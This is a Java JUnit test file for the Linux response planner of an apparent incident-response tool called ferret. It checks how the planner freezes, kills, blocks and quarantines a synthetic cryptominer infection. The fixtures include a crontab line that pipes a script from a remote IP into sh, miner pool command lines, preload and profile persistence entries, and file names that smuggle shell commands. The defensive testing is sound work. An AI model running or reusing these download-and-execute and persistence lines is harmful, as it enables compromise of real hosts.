package dev.ferret.respond.linux;

import dev.ferret.data.DetectionData;
import dev.ferret.model.Endpoint;
import dev.ferret.model.FileRef;
import dev.ferret.model.Finding;
import dev.ferret.model.PersistenceEntry;
import dev.ferret.model.ProcessRef;
import dev.ferret.model.Reason;
import dev.ferret.model.Severity;
import dev.ferret.respond.plan.Action;
import dev.ferret.respond.plan.ExpectedLine;
import dev.ferret.respond.plan.Plan;
import dev.ferret.respond.plan.PlanOptions;
import dev.ferret.respond.plan.Step;
import dev.ferret.respond.plan.StepKind;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.function.Predicate;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * The Linux planner on synthetic findings and a synthetic process table: what is in the plan, in which order, and
 * what is refused. Files live under a temporary root; nothing here touches a process or a host file.
 */
class LinuxPlannerTest {
    static final DetectionData DATA = DetectionData.builtIn();
    static final String CRONTAB = "/var/spool/cron/crontabs/root";
    static final String DDG = "curl -fsSL http://218.248.40.228:8443/i.sh | sh";

    @TempDir
    Path root;

    final List<LiveProcess> table = new ArrayList<>();
    final List<Finding> findings = new ArrayList<>();

    @BeforeEach
    void tree() throws IOException {
        write("/tmp/.cache/xmrig", "ELF miner");
        write("/tmp/.cache/guard.sh", "#!/bin/bash\nwhile :; do /tmp/.cache/xmrig & sleep 1; done\n");
        write("/var/tmp/.x/xmrig", "ELF miner");
        write("/tmp/systemd", "ELF masquerade");
        write(CRONTAB, "SHELL=/bin/sh\n# keep\n0 4 * * * /usr/bin/true\n*/5 * * * * " + DDG + "\n30 2 * * 0 /x\n"
                + "* * * * * /tmp/.cache/guard.sh >/dev/null 2>&1\n");
        write("/usr/bin/bash", "bash binary");
        write("/usr/bin/ls", "ls replaced by a trojan");
        write("/usr/bin/curl", "curl binary");
        proc(1, 0, "bash", "/usr/bin/bash", "/bin/bash", "/work/it.sh");
        kthread(2, 0, "kthreadd");
        kthread(33, 2, "kworker/0:1");
        proc(50, 1, "sshd", "/usr/sbin/sshd", "/usr/sbin/sshd", "-D");
        proc(60, 50, "sshd", "/usr/sbin/sshd", "sshd: root@pts/0");
        proc(61, 60, "bash", "/usr/bin/bash", "-bash");
        proc(62, 61, "java", "/usr/lib/jvm/bin/java", "java", "dev.ferret.cli.Main", "respond");
        proc(100, 1, "bash", "/usr/bin/bash", "/bin/bash", "/tmp/.cache/guard.sh");
        proc(101, 100, "xmrig", "/tmp/.cache/xmrig", "/tmp/.cache/xmrig", "-o", "stratum+tcp://pool.supportxmr.com:3333");
        proc(102, 100, "sleep", "/usr/bin/sleep", "sleep", "1");
        proc(103, 101, "xmrig", "/tmp/.cache/xmrig", "/tmp/.cache/xmrig", "--worker");
        proc(200, 1, "systemd", "/tmp/systemd", "/tmp/systemd");
        proc(300, 1, "cron", "/usr/sbin/cron", "/usr/sbin/cron", "-f");
        proc(400, 1, "java", "/usr/lib/jvm/bin/java", "java", "-jar", "build.jar");
    }

    void write(String hostPath, String content) throws IOException {
        Path p = root.resolve(hostPath.substring(1));
        Files.createDirectories(p.getParent());
        Files.writeString(p, content);
    }

    void proc(int pid, int ppid, String name, String exe, String... args) {
        table.add(new LiveProcess(pid, ppid, name, exe, false, List.of(args), 0, 1000L + pid, 'S', false));
    }

    void kthread(int pid, int ppid, String name) {
        table.add(new LiveProcess(pid, ppid, name, null, false, List.of(), 0, 10L + pid, 'I', true));
    }

    static Finding finding(String rule, int score, String chain, ProcessRef process, FileRef file, Endpoint dest,
                           PersistenceEntry entry) {
        return new Finding(rule, rule, List.of(), List.of(), score, List.of(new Reason(rule + " reason", score)),
                process, file, null, dest, entry, List.of(), chain);
    }

    static ProcessRef ref(int pid, String name, String exe, String cmd) {
        return new ProcessRef(pid, -1, name, exe, cmd);
    }

    static PersistenceEntry cron(int line, String command, String... refs) {
        return new PersistenceEntry("cron", CRONTAB, line, "root", command, Instant.EPOCH, List.of(refs));
    }

    Protection protection(PackageFiles packages) {
        return new Protection(List.of(62, 61, 60, 50, 1), List.of(Path.of("/opt/ferret")), packages, root);
    }

    PackageFiles packages() throws Exception {
        return PackageFiles.of(Map.of(
                "/usr/bin/bash", new PackageFiles.Owner("bash", md5("bash binary")),
                "/usr/bin/curl", new PackageFiles.Owner("curl", md5("curl binary")),
                "/usr/bin/ls", new PackageFiles.Owner("coreutils", md5("the real ls"))));
    }

    static String md5(String s) throws Exception {
        return HexFormat.of().formatHex(MessageDigest.getInstance("MD5").digest(s.getBytes(StandardCharsets.UTF_8)));
    }

    Plan plan(PlanOptions options, boolean live, boolean here, Firewall.Tool tool) throws Exception {
        LinuxPlanner.Context ctx = new LinuxPlanner.Context("web01", root, live, here, "other-host",
                ProcessTable.of(table), protection(packages()), DATA, Firewall.of(tool), false, "/kit/store");
        return new LinuxPlanner(ctx).plan(findings, options, "test", Instant.EPOCH);
    }

    void caseFiveFindings() {
        ProcessRef miner = ref(101, "xmrig", "/tmp/.cache/xmrig", "/tmp/.cache/xmrig -o stratum+tcp://pool.supportxmr.com:3333");
        findings.add(finding("process.miner-command-line", 92, "c1", miner, null, null, null));
        findings.add(finding("process.suspicious-executable", 50, "c1", miner, FileRef.of("/tmp/.cache/xmrig"), null, null));
        findings.add(finding("network.pool-connection", 85, "c1", miner, null, new Endpoint("91.121.140.167", 3333), null));
        findings.add(finding("linux.persistence.suspicious-path", 60, "c2", null, FileRef.of("/tmp/.cache/guard.sh"), null,
                cron(6, "/tmp/.cache/guard.sh >/dev/null 2>&1", "/tmp/.cache/guard.sh")));
        findings.add(finding("linux.persistence.download-exec", 85, "c3", null, null, null, cron(4, DDG)));
        findings.add(finding("file.same-file-copies", 87, "c4", null, new FileRef("/var/tmp/.x/xmrig", 9L, null, "m", "s"),
                null, null));
        findings.add(finding("process.cpu-hog", 25, "c5", ref(400, "java", "/usr/lib/jvm/bin/java", "java -jar build.jar"),
                null, null, null));
    }

    static List<Step> of(Plan p, StepKind kind) {
        return p.steps().stream().filter(s -> s.kind() == kind).toList();
    }

    static Optional<Step> find(Plan p, StepKind kind, Predicate<Step> test) {
        return p.steps().stream().filter(s -> s.kind() == kind && test.test(s)).findFirst();
    }

    static int pid(Step s) {
        return ((Action.Signal) s.action()).process().pid();
    }

    @Test
    void stepsComeInTheResponseOrder() throws Exception {
        caseFiveFindings();
        Plan p = plan(PlanOptions.defaults(), true, true, Firewall.Tool.IPTABLES);
        for (int i = 1; i < p.steps().size(); i++) {
            assertTrue(p.steps().get(i - 1).kind().compareTo(p.steps().get(i).kind()) <= 0,
                    "order broken at " + p.steps().get(i) + "\n" + dump(p));
            assertEquals("s" + (i + 1), p.steps().get(i).id());
        }
        List<StepKind> kinds = p.steps().stream().map(Step::kind).distinct().toList();
        assertEquals(List.of(StepKind.SUSPEND, StepKind.EVIDENCE, StepKind.PERSISTENCE, StepKind.BLOCK, StepKind.KILL,
                StepKind.QUARANTINE, StepKind.NOTICE), kinds, dump(p));
    }

    @Test
    void theGuardianIsFrozenFirstThenTheMinerThenTheChildrenAndKilledInTheSameOrder() throws Exception {
        caseFiveFindings();
        Plan p = plan(PlanOptions.defaults(), true, true, Firewall.Tool.IPTABLES);
        assertEquals(List.of(100, 101, 102, 103), of(p, StepKind.SUSPEND).stream().map(LinuxPlannerTest::pid).toList(),
                dump(p));
        assertEquals(List.of(100, 101, 102, 103), of(p, StepKind.KILL).stream().map(LinuxPlannerTest::pid).toList());
        Step guardian = of(p, StepKind.SUSPEND).get(0);
        assertTrue(guardian.reason().startsWith("guardian: parent of pid 101"), guardian.reason());
        assertEquals("kill -STOP 100", guardian.shell());
        assertEquals(1100L, ((Action.Signal) guardian.action()).process().startTicks());
        assertTrue(of(p, StepKind.SUSPEND).get(2).reason().startsWith("child of pid 100"));
        // the guardian's parent is pid 1: the walk stops there, and the cron daemon is nobody's guardian here
        assertTrue(p.steps().stream().noneMatch(s -> s.action() instanceof Action.Signal sig
                && Set.of(1, 300, 400).contains(sig.process().pid())), dump(p));
    }

    @Test
    void chainsJoinedThroughTheGuardianAreActedOnTogetherAndUnrelatedLowChainsAreLeftOut() throws Exception {
        caseFiveFindings();
        Plan p = plan(PlanOptions.defaults(), true, true, Firewall.Tool.IPTABLES);
        // c2 is medium on its own; the guardian that runs its script is the miner's parent
        assertTrue(p.chains().containsAll(List.of("c1", "c2", "c3", "c4")), p.chains().toString());
        assertFalse(p.chains().contains("c5"));
        assertTrue(p.notes().stream().anyMatch(n -> n.contains("chain c5") && n.contains("below --min-severity high")),
                p.notes().toString());
        Step edit = find(p, StepKind.PERSISTENCE, s -> s.action() instanceof Action.RemoveLines).orElseThrow();
        Action.RemoveLines r = (Action.RemoveLines) edit.action();
        assertEquals(CRONTAB, r.path());
        assertEquals(Set.of(4, 6), r.lines().stream().map(ExpectedLine::line).collect(java.util.stream.Collectors.toSet()));
        assertTrue(r.lines().stream().allMatch(l -> l.match() == ExpectedLine.Match.CRON_COMMAND));
        assertEquals("/var/spool/cron/crontabs", r.pokeDir());
        assertEquals("sed -i '6d;4d' /var/spool/cron/crontabs/root && touch /var/spool/cron/crontabs", edit.shell());
    }

    @Test
    void evidenceIsKeptForEveryFileThatIsRemovedOrEditedAndMalwareFilesAreQuarantined() throws Exception {
        caseFiveFindings();
        Plan p = plan(PlanOptions.defaults(), true, true, Firewall.Tool.IPTABLES);
        List<String> evidence = of(p, StepKind.EVIDENCE).stream().map(s -> ((Action.CaptureFile) s.action()).path())
                .toList();
        List<String> quarantine = of(p, StepKind.QUARANTINE).stream().filter(Step::executable)
                .map(s -> ((Action.QuarantineFile) s.action()).path()).toList();
        assertEquals(Set.of("/tmp/.cache/xmrig", "/tmp/.cache/guard.sh", "/var/tmp/.x/xmrig"), Set.copyOf(quarantine),
                dump(p));
        assertTrue(evidence.containsAll(quarantine), evidence.toString());
        assertTrue(evidence.contains(CRONTAB));
        // the guardian's /usr/bin/bash is a package's unchanged binary: not even proposed
        assertTrue(p.steps().stream().noneMatch(s -> "/usr/bin/bash".equals(s.target())), dump(p));
    }

    @Test
    void addressesAreBlockedWithTheToolThatIsThereAndDomainsBecomeNotices() throws Exception {
        caseFiveFindings();
        findings.add(finding("network.pool-connection", 85, "c1", ref(101, "xmrig", "/tmp/.cache/xmrig", null), null,
                new Endpoint("127.0.0.1", 3333), null));
        Plan p = plan(PlanOptions.defaults(), true, true, Firewall.Tool.IPTABLES);
        List<String> blocked = of(p, StepKind.BLOCK).stream().map(Step::target).toList();
        assertEquals(Set.of("91.121.140.167", "218.248.40.228"), Set.copyOf(blocked));
        Step b = find(p, StepKind.BLOCK, s -> s.target().equals("218.248.40.228")).orElseThrow();
        assertEquals("iptables -I OUTPUT 1 -d 218.248.40.228 -j DROP\niptables -I INPUT 1 -s 218.248.40.228 -j DROP",
                b.shell());
        assertTrue(b.executable());
        assertTrue(find(p, StepKind.NOTICE, s -> "pool.supportxmr.com".equals(s.target())).isPresent(), dump(p));

        Plan none = plan(PlanOptions.defaults(), true, true, Firewall.Tool.NONE);
        assertTrue(of(none, StepKind.BLOCK).stream().allMatch(s -> s.manual() && !s.executable()));
        Plan nft = plan(PlanOptions.defaults(), true, true, Firewall.Tool.NFT);
        assertTrue(of(nft, StepKind.BLOCK).get(0).shell().contains("nft add element inet ferret blocked4 '{ "));
    }

    @Test
    void protectedProcessesAreRefusedWithTheirReason() throws Exception {
        findings.add(finding("linux.hidden-socket-owner", 75, "c7", ref(1, "bash", "/usr/bin/bash", null), null, null, null));
        findings.add(finding("process.foreign-mapping", 80, "c8", ref(50, "sshd", "/usr/sbin/sshd", "/usr/sbin/sshd -D"),
                null, null, null));
        findings.add(finding("linux.hidden-process", 85, "c9", ref(33, "kworker/0:1", null, null), null, null, null));
        findings.add(finding("linux.scanner-preloaded", 90, "c10", ref(62, "java", "/usr/lib/jvm/bin/java", null), null,
                null, null));
        findings.add(finding("process.suspicious-executable", 75, "c11", ref(61, "bash", "/usr/bin/bash", "-bash"), null,
                null, null));
        findings.add(finding("process.suspicious-executable", 75, "c12", ref(200, "systemd", "/tmp/systemd", null), null,
                null, null));
        Plan p = plan(PlanOptions.defaults(), true, true, Firewall.Tool.IPTABLES);
        assertTrue(refusal(p, 1).contains("pid 1"), dump(p));
        assertTrue(refusal(p, 50).contains("sshd listener"), dump(p));
        assertTrue(refusal(p, 33).contains("kernel thread"), dump(p));
        assertTrue(refusal(p, 62).contains("ferret itself"), dump(p));
        assertTrue(refusal(p, 61).contains("ancestor of ferret"), dump(p));
        // a miner calling itself systemd from /tmp is not protected by the name
        assertNull(refusal(p, 200), dump(p));
        assertTrue(find(p, StepKind.KILL, s -> pid(s) == 200).isPresent());
        // refused processes have no kill step
        assertTrue(of(p, StepKind.KILL).stream().noneMatch(s -> Set.of(1, 50, 33, 62, 61).contains(pid(s))));
    }

    private static String refusal(Plan p, int pid) {
        return find(p, StepKind.SUSPEND, s -> pid(s) == pid).orElseThrow(() -> new AssertionError("no step for pid "
                + pid + "\n" + dump(p))).refusal();
    }

    @Test
    void theSshListenerIsKnownByItsCommandLineInEveryOpenSshVersion() {
        assertTrue(Protection.critical("sshd", "/usr/sbin/sshd", List.of("/usr/sbin/sshd", "-D")).isPresent());
        assertTrue(Protection.critical("sshd", "/usr/sbin/sshd",
                List.of("sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups")).isPresent());
        assertTrue(Protection.critical("sshd", "/usr/sbin/sshd", List.of("sshd: root@pts/0")).isEmpty());
        assertTrue(Protection.critical("sshd", "/tmp/.x/sshd", List.of("/tmp/.x/sshd")).isEmpty());
        assertTrue(Protection.critical("systemd", "/usr/lib/systemd/systemd", List.of("/sbin/init")).isPresent());
        assertTrue(Protection.critical("sshd", "/usr/sbin/sshd", List.of("/usr/sbin/sshd", "-D")).isPresent(),
                "a listener whose binary an upgrade replaced is still the listener");
    }

    @Test
    void packageFilesAreRefusedUnlessReplacedAndSystemFilesAlways() throws Exception {
        findings.add(finding("yara.file", 90, "c1", null, FileRef.of("/usr/bin/curl"), null, null));
        findings.add(finding("yara.file", 90, "c2", null, FileRef.of("/usr/bin/ls"), null, null));
        write("/etc/passwd", "root:x:0:0::/root:/bin/bash\n");
        findings.add(finding("yara.file", 90, "c3", null, FileRef.of("/etc/passwd"), null, null));
        findings.add(finding("yara.file", 90, "c4", null, FileRef.of("/tmp/gone"), null, null));
        Plan p = plan(PlanOptions.defaults(), true, true, Firewall.Tool.IPTABLES);
        Step curl = find(p, StepKind.QUARANTINE, s -> s.target().equals("/usr/bin/curl")).orElseThrow();
        assertTrue(curl.refusal().contains("package curl and is unchanged"), curl.refusal());
        Step ls = find(p, StepKind.QUARANTINE, s -> s.target().equals("/usr/bin/ls")).orElseThrow();
        assertNull(ls.refusal());
        assertTrue(ls.reason().contains("package coreutils installed /usr/bin/ls") && ls.reason().contains("replaced"),
                ls.reason());
        assertTrue(find(p, StepKind.QUARANTINE, s -> s.target().equals("/etc/passwd")).orElseThrow().refusal()
                .contains("never removed"));
        // refused files are not captured either (nothing will change them)
        assertTrue(find(p, StepKind.EVIDENCE, s -> s.target().equals("/usr/bin/curl")).isEmpty());
        assertTrue(p.notes().stream().anyMatch(n -> n.startsWith("/tmp/gone") && n.contains("does not exist")));
    }

    @Test
    void onlyAndSkipSelectStepKinds() throws Exception {
        caseFiveFindings();
        Plan only = plan(new PlanOptions(Severity.HIGH, Set.of(), false, false, Set.of(StepKind.SUSPEND, StepKind.KILL),
                Set.of()), true, true, Firewall.Tool.IPTABLES);
        assertTrue(only.steps().stream().allMatch(s -> s.kind() == StepKind.SUSPEND || s.kind() == StepKind.KILL
                || s.kind() == StepKind.NOTICE), dump(only));
        Plan skip = plan(new PlanOptions(Severity.HIGH, Set.of(), false, false, Set.of(), Set.of(StepKind.KILL)), true,
                true, Firewall.Tool.IPTABLES);
        assertTrue(of(skip, StepKind.KILL).isEmpty());
        assertTrue(skip.notes().stream().anyMatch(n -> n.contains("stay stopped")), skip.notes().toString());
    }

    @Test
    void chainsCanBeNamedWhateverTheirSeverity() throws Exception {
        caseFiveFindings();
        Plan p = plan(new PlanOptions(Severity.CRITICAL, Set.of("c5"), false, false, Set.of(), Set.of()), true, true,
                Firewall.Tool.IPTABLES);
        assertEquals(List.of("c5"), p.chains());
        assertEquals(List.of(400), of(p, StepKind.SUSPEND).stream().map(LinuxPlannerTest::pid).toList());
    }

    @Test
    void anOfflineImageGetsOnlyFileAndPersistenceSteps() throws Exception {
        caseFiveFindings();
        Plan p = plan(PlanOptions.defaults(), false, false, Firewall.Tool.IPTABLES);
        assertTrue(p.steps().stream().noneMatch(s -> s.kind().liveOnly()), dump(p));
        assertTrue(find(p, StepKind.PERSISTENCE, s -> s.action() instanceof Action.RemoveLines).isPresent());
        assertTrue(find(p, StepKind.QUARANTINE, s -> s.target().equals("/var/tmp/.x/xmrig")).isPresent());
        assertTrue(p.notes().stream().anyMatch(n -> n.startsWith("offline image")));
    }

    @Test
    void anOfflinePlanNamesThePathsInsideTheImage() throws Exception {
        caseFiveFindings();
        Plan p = plan(PlanOptions.defaults(), false, false, Firewall.Tool.IPTABLES);
        Step mv = find(p, StepKind.QUARANTINE, s -> s.target().equals("/var/tmp/.x/xmrig")).orElseThrow();
        assertEquals("mv " + root + "/var/tmp/.x/xmrig /kit/store/", mv.shell());
        for (Step s : p.steps()) {
            if (s.shell() != null) {
                // never the analyst's own files: every absolute path a command names is under the image
                for (String word : s.shell().split(" ")) {
                    assertTrue(!word.startsWith("/") || word.startsWith(root.toString()) || word.startsWith("/kit/"),
                            s.shell());
                }
            }
        }
    }

    @Test
    void awkwardNamesGetExactStepsOrANoteAndRefusedStepsPrintNoCommand() throws Exception {
        String glob = "/tmp/[x]*";
        String subst = "/tmp/a b$(touch x)";
        String newline = "/tmp/evil\n/etc/passwd";
        String bad = dev.ferret.model.PathBytes.decode(new byte[] {'/', 't', 'm', 'p', '/', 'b', 'a', 'd', (byte) 0xff});
        write(glob, "x");
        write(subst, "x");
        Files.createDirectories(root.resolve("tmp/evil\n"));
        write("/tmp/evil\n/etc/passwd", "x");
        Files.writeString(dev.ferret.model.PathBytes.resolve(root, bad.substring(1)), "x");
        for (String path : List.of(glob, subst, newline, bad, "/tmp/*.sh", "/var/lib/$USER/x")) {
            findings.add(finding("file.ioc", 90, "c" + path.hashCode(), null, FileRef.of(path), null, null));
        }
        Plan p = plan(PlanOptions.defaults(), true, true, Firewall.Tool.IPTABLES);
        for (String path : List.of(glob, subst, newline, bad)) {
            Step q = find(p, StepKind.QUARANTINE, s -> s.target().equals(path)).orElseThrow(() -> new AssertionError(
                    path + "\n" + dump(p)));
            assertEquals("mv " + dev.ferret.respond.Shell.quote(path) + " /kit/store/", q.shell());
            assertFalse(q.shell().contains("\n"), q.shell());
        }
        assertTrue(find(p, StepKind.QUARANTINE, s -> s.target().equals(bad)).get().shell().contains("\\xff"));
        for (String pattern : List.of("/tmp/*.sh", "/var/lib/$USER/x")) {
            assertTrue(p.notes().stream().anyMatch(n -> n.startsWith(pattern + " (file.ioc) names no single file")),
                    p.notes().toString());
        }
        String text = new dev.ferret.respond.PlanOutput().text(plan(PlanOptions.defaults(), true, false,
                Firewall.Tool.IPTABLES));
        assertTrue(text.contains("REFUSED") && !text.contains("$ kill") && !text.contains("$ mv"), text);
    }

    @Test
    void findingsFromAnotherHostGetRefusedProcessSteps() throws Exception {
        caseFiveFindings();
        Plan p = plan(PlanOptions.defaults(), true, false, Firewall.Tool.IPTABLES);
        List<Step> suspend = of(p, StepKind.SUSPEND);
        assertFalse(suspend.isEmpty());
        assertTrue(suspend.stream().allMatch(s -> s.refusal() != null && s.refusal().contains("other-host")), dump(p));
        assertTrue(of(p, StepKind.BLOCK).stream().allMatch(Step::refused));
        assertTrue(of(p, StepKind.KILL).isEmpty());
        // nor are its files this host's business
        assertTrue(p.steps().stream().allMatch(s -> s.refused() || s.manual()), dump(p));
    }

    @Test
    void aPidThatNowRunsSomethingElseIsLeftAlone() throws Exception {
        findings.add(finding("process.suspicious-executable", 80, "c1", ref(400, "kdevtmpfsi", "/tmp/kdevtmpfsi", null),
                null, null, null));
        Plan p = plan(PlanOptions.defaults(), true, true, Firewall.Tool.IPTABLES);
        assertTrue(p.steps().stream().noneMatch(s -> s.action() instanceof Action.Signal), dump(p));
        assertTrue(p.notes().stream().anyMatch(n -> n.startsWith("pid 400 now runs /usr/lib/jvm/bin/java, not "
                + "/tmp/kdevtmpfsi")), p.notes().toString());
    }

    @Test
    void aRespawnLoopThatIsNoOnesParentIsFrozenWithTheMinerItRestarts() throws Exception {
        // Outlaw-style: the miner was started through a subshell and reparented to init; the loop names it
        write("/root/.configrc/a/kswapd0", "ELF miner");
        write("/root/.configrc/a/upd", "#!/bin/sh\ncd /root/.configrc/a\nwhile true; do\n"
                + "  pidof kswapd0 >/dev/null || (nohup ./kswapd0 -c cfg >/dev/null 2>&1 &)\n  sleep 60\ndone\n");
        write("/opt/app/loop.sh", "#!/bin/sh\nwhile true; do /opt/app/worker; curl -s localhost/health; sleep 1; done\n");
        write("/opt/app/once.sh", "#!/bin/sh\n/root/.configrc/a/kswapd0 --version\n");
        proc(700, 1, "kswapd0", "/root/.configrc/a/kswapd0", "./kswapd0", "-c", "cfg");
        proc(701, 1, "bash", "/usr/bin/bash", "/bin/bash", "/root/.configrc/a/upd");
        proc(702, 1, "sh", "/usr/bin/dash", "sh", "-c", "until false; do /root/.configrc/a/kswapd0; sleep 5; done");
        proc(703, 1, "bash", "/usr/bin/bash", "/bin/bash", "/opt/app/loop.sh");
        proc(704, 1, "bash", "/usr/bin/bash", "/bin/bash", "/opt/app/once.sh");
        findings.add(finding("process.miner-command-line", 92, "c1",
                ref(700, "kswapd0", "/root/.configrc/a/kswapd0", "./kswapd0 -c cfg"), null, null, null));
        Plan p = plan(PlanOptions.defaults(), true, true, Firewall.Tool.IPTABLES);
        List<Integer> frozen = of(p, StepKind.SUSPEND).stream().map(LinuxPlannerTest::pid).toList();
        assertEquals(Set.of(700, 701, 702), Set.copyOf(frozen), dump(p));
        assertEquals(700, frozen.get(frozen.size() - 1), "the respawners are frozen before the miner\n" + dump(p));
        Step upd = find(p, StepKind.SUSPEND, s -> pid(s) == 701).orElseThrow();
        assertTrue(upd.reason().contains("its script /root/.configrc/a/upd loops and names")
                && upd.reason().contains("'kswapd0'"), upd.reason());
        assertTrue(find(p, StepKind.SUSPEND, s -> pid(s) == 702).orElseThrow().reason()
                .startsWith("respawner: its command line loops and names /root/.configrc/a/kswapd0"), dump(p));
        assertEquals(Set.of(700, 701, 702), Set.copyOf(of(p, StepKind.KILL).stream().map(LinuxPlannerTest::pid)
                .toList()), dump(p));
    }

    @Test
    void memoryDumpsComeAfterTheSuspensionAndBeforeAnyChange() throws Exception {
        caseFiveFindings();
        Plan p = plan(new PlanOptions(Severity.HIGH, Set.of(), true, false, Set.of(), Set.of()), true, true,
                Firewall.Tool.IPTABLES);
        List<Integer> dumped = p.steps().stream().filter(s -> s.action() instanceof Action.DumpMemory)
                .map(s -> ((Action.DumpMemory) s.action()).process().pid()).toList();
        assertEquals(List.of(101), dumped, dump(p));
    }

    @Test
    void preloadProfileUnitAndInitPersistenceAreUndoneTheirOwnWay() throws Exception {
        write("/etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n");
        write("/usr/local/lib/libprocesshider.so", "ELF hider");
        write("/etc/profile.d/php.sh", "cp /etc/.sh /tmp/.sh\n/tmp/.sh\nrm -f /tmp/.sh\n");
        write("/etc/systemd/system/kworker.service", "[Service]\nExecStart=/tmp/.k/kworker\n");
        write("/etc/init.d/ddg", "#!/bin/sh\n/tmp/ddg.2021\n");
        Files.createDirectories(root.resolve("etc/rc2.d"));
        Files.createSymbolicLink(root.resolve("etc/rc2.d/S99ddg"), Path.of("../init.d/ddg"));
        write("/root/.bashrc", "alias ll='ls -l'\nexport LD_PRELOAD=/tmp/.l/x.so\n");
        findings.add(finding("linux.persistence.ld-preload", 90, "c1", null,
                FileRef.of("/usr/local/lib/libprocesshider.so"), null, new PersistenceEntry("preload",
                        "/etc/ld.so.preload", 1, null, "/usr/local/lib/libprocesshider.so", null,
                        List.of("/usr/local/lib/libprocesshider.so"))));
        findings.add(finding("linux.persistence.copy-run-delete", 80, "c2", null, null, null, new PersistenceEntry(
                "profile", "/etc/profile.d/php.sh", 1, null, "cp /etc/.sh /tmp/.sh ; /tmp/.sh ; rm -f /tmp/.sh", null,
                List.of("/etc/.sh", "/tmp/.sh"))));
        findings.add(finding("linux.persistence.suspicious-path", 80, "c3", null, null, null, new PersistenceEntry(
                "systemd", "/etc/systemd/system/kworker.service", 2, null, "/tmp/.k/kworker", null,
                List.of("/tmp/.k/kworker"))));
        findings.add(finding("linux.persistence.suspicious-path", 80, "c4", null, null, null, new PersistenceEntry(
                "init", "/etc/init.d/ddg", 2, "root", "/tmp/ddg.2021", null, List.of("/tmp/ddg.2021"))));
        findings.add(finding("linux.persistence.ld-preload-profile", 80, "c5", null, null, null, new PersistenceEntry(
                "preload", "/root/.bashrc", 2, "root", "/tmp/.l/x.so", null, List.of("/tmp/.l/x.so"))));
        Plan p = plan(PlanOptions.defaults(), true, true, Firewall.Tool.IPTABLES);
        Step preload = of(p, StepKind.PRELOAD).stream().filter(s -> s.action() instanceof Action.RemovePreloadEntry)
                .findFirst().orElseThrow(() -> new AssertionError(dump(p)));
        assertEquals(new Action.RemovePreloadEntry("/etc/ld.so.preload", 1, "/usr/local/lib/libprocesshider.so"),
                preload.action());
        Step bashrc = of(p, StepKind.PRELOAD).stream().filter(s -> s.action() instanceof Action.RemoveLines)
                .findFirst().orElseThrow();
        assertEquals("/root/.bashrc", ((Action.RemoveLines) bashrc.action()).path());
        assertTrue(find(p, StepKind.QUARANTINE, s -> s.target().equals("/usr/local/lib/libprocesshider.so")).isPresent());
        // a profile.d script nobody packaged is taken away whole, in the persistence phase
        assertTrue(find(p, StepKind.PERSISTENCE, s -> s.action().equals(new Action.QuarantineFile("/etc/profile.d/php.sh")))
                .isPresent(), dump(p));
        Step unit = find(p, StepKind.PERSISTENCE, s -> s.action() instanceof Action.DisableUnit).orElseThrow();
        assertEquals("kworker.service", ((Action.DisableUnit) unit.action()).unit());
        assertTrue(find(p, StepKind.PERSISTENCE, s -> s.action().equals(
                new Action.QuarantineFile("/etc/systemd/system/kworker.service"))).isPresent());
        assertTrue(find(p, StepKind.PERSISTENCE, s -> s.action().equals(new Action.QuarantineFile("/etc/init.d/ddg")))
                .isPresent());
        assertTrue(find(p, StepKind.PERSISTENCE, s -> s.action().equals(new Action.QuarantineFile("/etc/rc2.d/S99ddg")))
                .isPresent(), dump(p));
        // the preload file itself is edited, never removed: evidence first
        assertTrue(find(p, StepKind.EVIDENCE, s -> s.target().equals("/etc/ld.so.preload")).isPresent(), dump(p));
        int lastPersistence = p.steps().indexOf(of(p, StepKind.PERSISTENCE).get(of(p, StepKind.PERSISTENCE).size() - 1));
        assertTrue(p.steps().indexOf(preload) > lastPersistence);
    }

    @Test
    void hostsAreReadFromUrlsAndPoolOptions() {
        assertEquals(List.of("218.248.40.228"), LinuxPlanner.hosts(DDG));
        assertEquals(List.of("pool.supportxmr.com"), LinuxPlanner.hosts("xmrig -o pool.supportxmr.com:3333 -k"));
        assertEquals(List.of("1.2.3.4"), LinuxPlanner.hosts("x --url=stratum+tcp://1.2.3.4:4444"));
        assertFalse(LinuxPlanner.blockable("127.0.0.1"));
        assertFalse(LinuxPlanner.blockable("0.0.0.0"));
        assertFalse(LinuxPlanner.blockable("::1"));
        assertFalse(LinuxPlanner.blockable("fe80::1"));
        assertTrue(LinuxPlanner.blockable("10.1.2.3"));
        assertTrue(LinuxPlanner.blockable("2001:db8::1"));
    }

    static String dump(Plan p) {
        StringBuilder b = new StringBuilder();
        for (Step s : p.steps()) {
            b.append(s.id()).append(' ').append(s.kind().id()).append(' ').append(s.target())
                    .append(s.refusal() != null ? " REFUSED " + s.refusal() : "").append(" | ").append(s.reason())
                    .append('\n');
        }
        b.append("notes: ").append(p.notes());
        return b.toString();
    }
}
